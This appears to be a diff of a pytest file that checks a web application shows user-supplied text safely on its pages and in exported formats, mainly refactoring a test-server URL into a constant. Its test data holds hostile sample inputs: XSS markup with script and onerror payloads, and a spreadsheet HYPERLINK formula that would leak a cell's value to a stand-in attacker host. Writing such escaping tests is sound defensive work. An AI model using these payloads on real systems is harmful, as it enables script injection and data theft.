@@ -34,6 +34,7 @@ from tests.support.documents import document, environment, series, target, uuid7
 from tests.support.mutations import saying
 from tests.support.store import store_run
 
+SITE = "http://testserver"
 WORDS = {
     "markup": "\"'><img src=x onerror=alert(1)></script><script>alert(1)</script>]]>&lt;b&gt;",
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -76,15 +77,14 @@ def runs(owner: User, words: str) -> list[Run]:
 @pytest.fixture
 def names(owner: User, runs: list[Run]) -> dict[str, object]:
     """What addresses name."""
-    link, last = permalinks.share(owner, "table", ids(runs), site="http://testserver")[0], runs[0].runstate.result_count
-    of_run = {"run": runs[0].pk, "machine": runs[0].machine_id, "last": last - 1}
-    return {"both": ids(runs), "key": "%22", "id": link.pk, "link": quote(f"http://testserver/c/{link.pk}/"), **of_run}
+    link, run = permalinks.share(owner, "table", ids(runs), site=SITE)[0], runs[0]
+    of_run = {"run": run.pk, "machine": run.machine_id, "last": run.runstate.result_count - 1}
+    return {"both": ids(runs), "key": "%22", "id": link.pk, "link": quote(f"{SITE}/c/{link.pk}/"), **of_run}
 
 
 @pytest.mark.parametrize("words", ["markup"], indirect=True)
 def test_it_is_text_on_every_page(client: Client, owner: User, names: dict[str, object]) -> None:
-    owner.first_name, owner.is_staff, owner.is_superuser = "<img src=x>", True, True
-    owner.save()
+    User.objects.update(first_name="<img src=x>", is_staff=True, is_superuser=True)
     client.force_login(owner)
     seen = 0
     for page in PAGES:
@@ -130,7 +130,7 @@ def test_it_is_text_in_every_format(form: str, client: Client, owner: User, runs
     both, trend = ids(runs), f"run={runs[0].pk}&test=write"
     queries = {"table": both, "surface": f"{both}&test=write", "trend": trend, "response": f"{both}&test=random_read"}
     for kind, query in queries.items():
-        link = permalinks.share(owner, kind, query, site="http://testserver")[0]
+        link = permalinks.share(owner, kind, query, site=SITE)[0]
         check(client, f"/c/{link.pk}.{form}", tmp_path)
 
 
